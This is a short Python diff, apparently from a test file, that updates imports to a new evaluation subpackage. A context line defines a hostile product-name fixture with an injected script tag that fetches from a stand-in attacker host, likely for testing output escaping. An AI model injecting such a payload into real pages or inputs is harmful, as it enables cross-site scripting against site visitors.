@@ -19,8 +19,8 @@ from sklearn.metrics import roc_auc_score
 from searchtune import records
 from searchtune.ml.stats import compute_statistics
 from searchtune.params import GateParams, TrainParams
-from searchtune.steps import model_card, report, report_analysis, summary
-from searchtune.steps.gate import decide
+from searchtune.steps.evaluation import model_card, report, report_analysis, summary
+from searchtune.steps.evaluation.gate import decide
 
 GATE = GateParams()
 HOSTILE_PRODUCT = '<script>fetch("https://evil.example/x")</script> drill & <b>bits</b>'
